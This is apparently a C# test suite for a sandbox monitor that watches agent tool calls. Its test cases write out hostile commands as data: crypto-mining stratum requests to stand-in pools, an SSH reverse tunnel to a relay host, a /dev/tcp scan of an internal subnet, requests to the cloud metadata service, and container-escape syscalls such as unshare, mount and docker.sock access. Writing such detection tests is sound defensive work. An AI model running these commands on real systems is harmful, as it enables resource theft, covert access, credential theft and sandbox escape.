using Aurelian.Events;
using Aurelian.Response;

namespace Aurelian.LinuxTests.Runs;

/// <summary>Each of the first detectors in a real sandbox, and a look-alike beside it that stays quiet.</summary>
public sealed class DetectionRunTests
{
    private const string Speak = """
        import socket, sys, time
        s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
        s.sendall(sys.argv[3].encode().decode("unicode_escape").encode())
        try: print(s.recv(100))
        except OSError: pass
        time.sleep(float(sys.argv[4]) if len(sys.argv) > 4 else 0)
        """;

    [Theory]
    [InlineData("pool.moonshare.example", 3333, """{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n""")]
    [InlineData("cdn.example", 443, """{ \"id\": 1, \"method\" : \"mining.authorize\", \"params\": [\"w\"]}\n""")]
    [InlineData("203.0.113.9", 8080, """{\"id\":1,\"method\":\"eth_submitLogin\",\"params\":[\"0x0\"]}\n""")]
    [InlineData("a.example", 80,
        """POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 30\r\n\r\n{\"method\":\"mining.subscribe\"}""")]
    public async Task Mining_is_stopped_whatever_the_port(string host, int port, string words)
    {
        RunSummary summary = await Run.CommandAsync($"python3 -c '{Speak}' {host} {port} '{words}' 20");

        Incident mining = summary.Incident(Category.Mining);
        Assert.Equal(VerdictState.Violating, summary.Verdict());
        Assert.Equal("e1.c1", mining.ToolCall);
        Assert.Equal(Certainty.Exact, mining.Attribution.Certainty);
        Assert.StartsWith("/usr/bin/python3", mining.Process!.Exe, StringComparison.Ordinal);
        Assert.Equal((port, "stratum", 0L), (mining.Flow!.Port, mining.Flow.Protocol, mining.Flow.BytesUpstream));
        Assert.NotNull(mining.ContainedAfterMs);
        Assert.All(mining.Actions, action => Assert.True(action.Ok, action.Detail));
        ToolCallSummary call = Assert.Single(summary.Episodes[0].ToolCalls);
        Assert.True(call.Killed);
        Assert.Null(call.ExitCode);
    }

    [Fact]
    public async Task Ordinary_json_rpc_is_no_mining()
    {
        RunSummary summary = await Run.CommandAsync(
            $"python3 -c '{Speak}' api.example 80 "
                + """'{\"jsonrpc\":\"2.0\",\"method\":\"user.login\",\"id\":1}\n'""");

        Assert.Equal(VerdictState.Clean, summary.Verdict());
        Assert.Equal(1, summary.Episodes[0].ToolCalls[0].DeniedAttempts);
    }

    [Fact]
    public async Task A_reverse_tunnel_is_stopped_and_named()
    {
        RunSummary summary = await Run.CommandAsync(
            "ssh -NR 2222:127.0.0.1:22 -o StrictHostKeyChecking=no ops@relay.overlook.example");

        Incident tunnel = summary.Incident(Category.Tunnel);
        Assert.Equal("/usr/bin/ssh", tunnel.Process!.Exe);
        Assert.Contains("-NR 2222:127.0.0.1:22", tunnel.Process.CommandLine, StringComparison.Ordinal);
        Assert.Equal(("relay.overlook.example", 22, "ssh"), (tunnel.Flow!.Name, tunnel.Flow.Port,
            tunnel.Flow.Protocol));
    }

    [Fact]
    public async Task Git_over_ssh_is_clean()
    {
        RunSummary summary = await Run.CommandAsync(
            "GIT_SSH_COMMAND='ssh' timeout 10 git clone git@git.example:team/repo.git || true");

        Assert.DoesNotContain(summary.Incidents, incident => incident.Severity >= Severity.Medium);
    }

    [Fact]
    public async Task Probing_the_internal_network_is_stopped()
    {
        RunSummary summary = await Run.CommandAsync(
            "for i in $(seq 40); do timeout 0.2 bash -c \"echo >/dev/tcp/10.77.0.$i/22\"; done 2>/dev/null; sleep 20");

        Incident probing = summary.Incident(Category.Probing);
        Assert.Equal(VerdictState.Violating, summary.Verdict());
        Assert.NotNull(probing.ContainedAfterMs);
    }

    [Fact]
    public async Task A_package_manager_that_tries_its_mirrors_is_clean()
    {
        RunSummary summary = await Run.CommandAsync(
            "for h in a b c d e f; do timeout 1 bash -c \"exec 3<>/dev/tcp/$h.mirror.example/443\"; done; true");

        Assert.Equal(VerdictState.Clean, summary.Verdict());
        Assert.True(summary.Episodes[0].ToolCalls[0].DeniedAttempts >= 6);
    }

    [Theory]
    [InlineData("timeout 2 bash -c 'echo >/dev/tcp/169.254.169.254/80'; sleep 10")]
    [InlineData("getent hosts metadata.google.internal; sleep 10")]
    public async Task The_metadata_service_is_out_of_reach_by_address_and_by_name(string command)
    {
        RunSummary summary = await Run.CommandAsync(command);

        Assert.Equal(Severity.High, summary.Incident(Category.Metadata).Severity);
    }

    [Theory]
    [InlineData("socket.socket(17, 3)", Severity.Medium)]
    [InlineData("socket.socket(40, 1)", Severity.Medium)]
    [InlineData("c.unshare(0x10000000)", Severity.Medium)]
    [InlineData("c.mount(b'x', b'/tmp', b'tmpfs', 0, None)", Severity.Medium)]
    [InlineData("c.syscall(321, 0, 0, 0)", Severity.Medium)]
    [InlineData("socket.socket(1, 1).connect('/run/docker.sock')", Severity.Medium)]
    [InlineData("c.syscall(425, 1, 0)", Severity.Low)]
    public async Task Refused_system_calls_are_told_under_their_call(string attempt, Severity severity)
    {
        RunSummary summary = await Run.CommandAsync($"""
            python3 -c "
            import socket, ctypes
            c = ctypes.CDLL(None, use_errno=True)
            try: {attempt}
            except OSError as e: print(e)
            "
            """);

        Incident evasion = summary.Incident(Category.Evasion);
        Assert.Equal(severity, evasion.Severity);
        Assert.Equal("e1.c1", evasion.ToolCall);
        Assert.Equal(severity == Severity.Low ? VerdictState.Clean : VerdictState.Suspect, summary.Verdict());
    }
}
